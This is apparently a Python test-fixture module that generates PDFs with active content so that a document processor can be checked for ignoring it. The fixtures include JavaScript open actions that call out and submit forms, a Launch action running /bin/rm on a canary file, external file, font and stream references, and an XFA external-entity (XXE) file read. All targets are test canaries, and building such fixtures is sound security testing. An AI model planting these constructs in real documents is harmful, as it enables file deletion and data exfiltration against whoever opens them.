"""PDFs that try to do something: run script or programs, call out, fetch or write other files."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from typing import Final

from tests.helpers.canary import Canary

TEXT: Final = b"BT /F1 24 Tf 72 720 Td (Phien hop thu nhat) Tj ET"


def written(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1, the first being the catalog."""
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(objects) + 1
    ending = b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n"
    return (
        out
        + b"xref\n0 %d\n0000000000 65535 f \n" % size
        + table
        + ending
        % (
            size,
            trailer,
            len(out),
        )
    )


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), entries, content)


def paper(
    *, catalog: bytes = b"", page: bytes = b"", content: bytes = TEXT, more: Sequence[bytes] = ()
) -> bytes:
    """One page of text, with these entries in its catalog and page; `more` begins at object 6."""
    return written(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> %s >>" % page,
            stream(content),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *(more or [b"null"]),
        ]
    )


def papers(canary: Canary) -> Mapping[str, bytes]:
    """By what each tries; all of them show their text where they are left alone."""
    file, url = str(canary.path).encode(), canary.url.encode()
    script = (
        b"app.launchURL('%s', true); this.submitForm('%s'); app.openDoc('%s');"
        b" this.exportDataObject({cName: 'x', nLaunch: 2}); app.execMenuItem('SaveAs');"
        % (url, url, file)
    )
    spec = b"<< /Type /Filespec /F (%s) /UF (%s) >>" % (file, file)
    by_url = b"<< /FS /URL /F (%s) >>" % url
    box = b"/Rect [0 0 595 842]"
    return {
        "script": paper(catalog=b"/OpenAction << /S /JavaScript /JS (%s) >>" % script),
        "script on the page": paper(page=b"/AA << /O << /S /JavaScript /JS (%s) >> >>" % script),
        "script by name": paper(
            catalog=b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS 6 0 R >>] >> >>",
            more=[stream(script)],
        ),
        "script in a form": paper(
            catalog=b"/AcroForm << /Fields [6 0 R] /NeedAppearances true /CO [6 0 R] >>",
            page=b"/Annots [6 0 R]",
            more=[
                b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (1) %s /AA << /C << /S"
                b" /JavaScript /JS (%s) >> /F << /S /JavaScript /JS (%s) >> >> >>"
                % (box, script, script)
            ],
        ),
        "launch": paper(
            catalog=b"/OpenAction << /S /Launch /F %s /Unix << /F (/bin/rm) /P (%s) >> >>"
            % (spec, file)
        ),
        "launch by a click": paper(
            page=b"/Annots [<< /Type /Annot /Subtype /Link %s /A << /S /Launch /F (%s) >> >>]"
            % (box, file)
        ),
        "address": paper(catalog=b"/OpenAction << /S /URI /URI (%s) >>" % url),
        "form sent": paper(
            catalog=b"/OpenAction << /S /SubmitForm /F %s /Flags 4 >>" % by_url,
            page=b"/AA << /O << /S /ImportData /F %s >> >>" % spec,
        ),
        "other paper": paper(catalog=b"/OpenAction << /S /GoToR /F %s /D [0 /Fit] >>" % spec),
        "picture elsewhere": paper(
            content=TEXT + b" q 500 0 0 500 0 0 cm /X Do Q",
            more=[
                b"<< /Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8"
                b" /ColorSpace /DeviceRGB /F %s /FFilter /FlateDecode /Length 0 >>\nstream\n"
                b"\nendstream" % spec
            ],
        ),
        "content elsewhere": paper(
            page=b"/Annots [7 0 R]",
            more=[
                b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F %s /Page 0 >>"
                b" /F %s /Length 0 >>\nstream\n\nendstream" % (spec, by_url),
                b"<< /Type /Annot /Subtype /Movie %s /Movie << /F %s /Poster true >> >>"
                % (box, spec),
            ],
        ),
        "font elsewhere": paper(
            page=b"/Resources << /Font << /F1 6 0 R >> >>",
            more=[
                b"<< /Type /Font /Subtype /TrueType /BaseFont /Elsewhere /FontDescriptor 7 0 R >>",
                b"<< /Type /FontDescriptor /FontName /Elsewhere /Flags 4 /FontFile2 8 0 R >>",
                b"<< /F %s /Length 0 >>\nstream\n\nendstream" % spec,
            ],
        ),
        "form elsewhere": paper(
            catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>",
            more=[
                stream(
                    b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file://%s'>"
                    b"<!ENTITY y SYSTEM '%s'>]><xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'>"
                    b"&x;&y;</xdp:xdp>" % (file, url)
                )
            ],
        ),
        "settings elsewhere": paper(
            catalog=b"/Metadata 6 0 R /Collection << /D (%s) >> /URI << /Base (%s) >>"
            % (file, url),
            more=[stream(b"<?xml-stylesheet href='%s'?>" % url, b"/Type /Metadata /Subtype /XML")],
        ),
    }
